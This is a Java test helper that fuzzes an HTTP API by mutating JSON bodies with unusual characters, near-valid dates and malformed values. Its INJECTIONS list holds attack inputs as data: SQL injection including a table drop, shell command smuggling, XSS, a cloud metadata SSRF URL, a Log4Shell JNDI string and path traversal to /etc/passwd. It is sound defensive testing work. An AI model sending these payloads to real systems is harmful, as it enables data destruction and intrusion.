package com.vantage.syncstate.http;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.stream.Stream;
import tools.jackson.core.JsonPointer;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/** What fuzzers make of a valid body, one change at a time: of values, of keys, and of the text as a whole. */
final class Mutation {

    /** Spaces, controls, what has no width, emojis, what turns the text, and letters of more than one code point. */
    static final List<String> CHARACTERS = List.of(
            " ",
            "\t",
            "\n",
            "\r\n",
            "\u000b",
            "\f",
            "\u00a0",
            "\u1680",
            "\u180e",
            "\u2003",
            "\u2028",
            "\u2029",
            "\u3000",
            "\u0000",
            "\u0001",
            "\u0007",
            "\b",
            "\u001b[31m",
            "\u007f",
            "\u0085",
            "\u009f",
            "\u200b",
            "\u200d",
            "\u2060",
            "\ufeff",
            "\u00ad",
            "\u202e",
            "\u2066",
            "\ud83d\ude00",
            "\ud83d\udc69\u200d\ud83d\ude80",
            "\ud83c\uddfa\ud83c\udde6",
            "\u0c1c\u0c4d\u0c1e\u200c\u0c3e",
            "Z\u0351\u036b\u0343\u036a\u0302a\u0321\u034a",
            "\u0430",
            "\ufffe",
            "\udbff\udfff");

    /** Of other languages than ours, for whoever would run them. */
    static final List<String> INJECTIONS = List.of(
            "' or '1'='1' --",
            "'; drop table vantage_sync_state; --",
            "1; select pg_sleep(10)",
            "{\"$gt\": \"\"}",
            "; cat /etc/passwd",
            "$(sleep 10)",
            "`id`",
            "| whoami",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "http://169.254.169.254/latest/meta-data/",
            "file:///etc/passwd",
            "${jndi:ldap://x/a}",
            "{{7*7}}",
            "%s%n%x",
            "../../../../etc/passwd",
            "\r\nX-Injected: 1");

    /** Nearly a time, a length of time, a cron or an identifier. */
    private static final List<String> ALMOST_VALID = List.of(
            "2026-02-30T00:00:00Z",
            "2026-11-22T24:00:01Z",
            "2026-11-22T05:30:60Z",
            "2026-11-22",
            "2026-11-22T05:30:00",
            "-292275055-05-16T16:47:04Z",
            "+999999999-12-31T23:59:59Z",
            "0000-00-00T00:00:00Z",
            "infinity",
            "now",
            "P",
            "PT",
            "P1",
            "PT1X",
            "-PT1H",
            "PT0S",
            "P999999999Y",
            "PT9223372036854775807S",
            "PT0.0000001S",
            "60 0 * * *",
            "* * * *",
            "0 0 30 2 *",
            "*/0 * * * *",
            "Mars/Phobos",
            "0b9ff6a3-5f0e-4b7c-9f60-2a3a5a0c9d1",
            "{0b9ff6a3-5f0e-4b7c-9f60-2a3a5a0c9d11}",
            "0B9FF6A3-5F0E-4B7C-9F60-2A3A5A0C9D11",
            "00000000-0000-0000-0000-000000000000");

    /** As JSON, or as what a parser may take for it. */
    private static final List<String> RAW = List.of(
            "null",
            "true",
            "false",
            "\"\"",
            "\"x\"",
            "\"1\"",
            "\"true\"",
            "\"\\ud800\"",
            "\"\\udc00\\ud800\"",
            "\"\\x\"",
            "0",
            "-0",
            "-1",
            "1.0",
            "1.5",
            "-1.5",
            "1e2",
            "1e-400",
            "1e400",
            "1e2147483648",
            "-1e2147483648",
            "007",
            "+1",
            ".5",
            "1.",
            "0x10",
            "1_000",
            "NaN",
            "Infinity",
            "-Infinity",
            "2147483647",
            "2147483648",
            "-2147483648",
            "-2147483649",
            "9223372036854775807",
            "9223372036854775808",
            "9".repeat(500),
            "9".repeat(1_001),
            "0." + "1".repeat(500),
            "[]",
            "[null]",
            "[[]]",
            "[\"x\"]",
            "[1, 2]",
            "[{}]",
            "{}",
            "{\"a\": {}}",
            "{\"$ref\": \"#/x\"}",
            "{\"__proto__\": 1}",
            "[".repeat(499) + "]".repeat(499),
            "[".repeat(501) + "]".repeat(501),
            "[" + "1,".repeat(20_000) + "1]",
            "\"" + "x".repeat(100_000) + "\"",
            "\"" + "\ud83d\ude00".repeat(20_000) + "\"",
            "\"" + " ".repeat(50_000) + "\"",
            "",
            "undefined",
            "'x'",
            "x");

    private static final JsonMapper JSON = new JsonMapper();

    private Mutation() {}

    /** Each value in turn replaced, each key left out, doubled, renamed, and a stranger beside it. */
    static Stream<String> ofFields(ObjectNode body) {
        return pointers(body).stream()
                .flatMap(at ->
                        Stream.concat(values(body.at(at)).map(value -> replace(body, at, value)), keys(body, at)));
    }

    /** The text of a string with something before, behind and within it, or nothing else. */
    static Stream<String> ofText(String text) {
        int half = text.offsetByCodePoints(0, text.codePointCount(0, text.length()) / 2);
        return Stream.of(
                        CHARACTERS.stream()
                                .flatMap(c -> Stream.of(
                                        c, c + text, text + c, text.substring(0, half) + c + text.substring(half))),
                        INJECTIONS.stream(),
                        ALMOST_VALID.stream())
                .flatMap(texts -> texts);
    }

    private static Stream<String> values(JsonNode value) {
        return value.isString()
                ? Stream.concat(RAW.stream(), ofText(value.asString()).map(JSON::writeValueAsString))
                : RAW.stream();
    }

    private static Stream<String> keys(ObjectNode body, JsonPointer at) {
        if (!(body.at(at.head()) instanceof ObjectNode)) {
            return Stream.of();
        }
        String key = at.last().getMatchingProperty();
        List<String> names = new ArrayList<>(List.of(
                "",
                " ",
                key.toUpperCase(Locale.ROOT),
                key + " ",
                "\u200b" + key,
                key + "\u0000",
                key.replace('e', '\u0435'),
                "\ud83d\ude00",
                "__proto__",
                "$ref",
                "x".repeat(10_000)));
        names.remove(key);
        return Stream.concat(
                Stream.of(
                        without(body, at),
                        replace(body, at, "1, " + JSON.writeValueAsString(key) + ": 2"),
                        replace(body, at, "1, \"resource\": \"funds\""),
                        replace(body, at, "1, \"last_sync_status\": \"success\"")),
                names.stream().map(name -> renamed(body, at, name)));
    }

    private static List<JsonPointer> pointers(JsonNode body) {
        List<JsonPointer> found = new ArrayList<>();
        collect(body, JsonPointer.empty(), found);
        return found;
    }

    private static void collect(JsonNode node, JsonPointer at, List<JsonPointer> found) {
        if (node.isObject()) {
            node.properties().forEach(property -> {
                found.add(at.appendProperty(property.getKey()));
                collect(property.getValue(), at.appendProperty(property.getKey()), found);
            });
        }
        for (int i = 0; node.isArray() && i < node.size(); i++) {
            found.add(at.appendIndex(i));
            collect(node.get(i), at.appendIndex(i), found);
        }
    }

    private static String replace(ObjectNode body, JsonPointer at, String raw) {
        ObjectNode copy = body.deepCopy();
        JsonNode parent = copy.at(at.head());
        if (parent instanceof ArrayNode array) {
            array.set(at.last().getMatchingIndex(), "\u0000");
        } else {
            ((ObjectNode) parent).put(at.last().getMatchingProperty(), "\u0000");
        }
        return copy.toString().replace("\"\\u0000\"", raw);
    }

    private static String without(ObjectNode body, JsonPointer at) {
        ObjectNode copy = body.deepCopy();
        ((ObjectNode) copy.at(at.head())).remove(at.last().getMatchingProperty());
        return copy.toString();
    }

    private static String renamed(ObjectNode body, JsonPointer at, String name) {
        ObjectNode copy = body.deepCopy();
        var parent = (ObjectNode) copy.at(at.head());
        parent.set(name, parent.remove(at.last().getMatchingProperty()));
        return copy.toString();
    }
}
